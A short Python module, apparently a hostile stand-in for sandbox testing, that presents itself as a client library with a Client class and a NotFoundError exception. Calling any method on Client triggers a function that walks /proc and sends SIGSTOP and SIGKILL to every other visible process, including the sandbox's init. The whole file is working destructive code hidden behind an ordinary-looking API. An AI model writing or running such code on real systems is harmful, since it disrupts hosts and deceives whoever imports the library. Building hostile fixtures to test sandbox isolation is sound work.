"""Kill or stop every other process it can see, the worker's parent (the sandbox's init) included."""
import os
import signal


def strike():
    hit = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(int(pid), sig)
                    hit.append(int(pid))
                except OSError:
                    pass
    return hit


class NotFoundError(Exception):
    pass


class Client:
    def __init__(self, base_url, *args, **kwargs):
        pass

    def __getattr__(self, name):
        def call(*a, **k):
            raise RuntimeError(f"signalled: {strike()}")
        return call
